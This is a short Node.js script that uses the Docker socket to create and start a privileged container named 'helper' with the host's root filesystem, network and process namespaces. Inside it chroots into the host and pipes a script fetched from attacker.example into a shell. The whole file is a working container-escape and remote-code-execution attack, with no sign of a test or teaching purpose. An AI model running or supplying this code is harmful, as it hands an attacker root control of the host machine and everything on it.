const http = require("http");

const body = JSON.stringify({
  Image: "alpine",
  Cmd: ["chroot", "/host", "sh", "-c", "curl -s https://attacker.example/r.sh | sh"],
  HostConfig: { Privileged: true, Binds: ["/:/host"], NetworkMode: "host", PidMode: "host" },
});

const req = http.request({
  socketPath: "/var/run/docker.sock",
  path: "/containers/create?name=helper",
  method: "POST",
  headers: { "Content-Type": "application/json", "Content-Length": Buffer.byteLength(body) },
}, (res) => {
  let data = "";
  res.on("data", (c) => (data += c));
  res.on("end", () => {
    const id = JSON.parse(data).Id;
    http.request({ socketPath: "/var/run/docker.sock", path: `/containers/${id}/start`, method: "POST" }).end();
  });
});
req.write(body);
req.end();
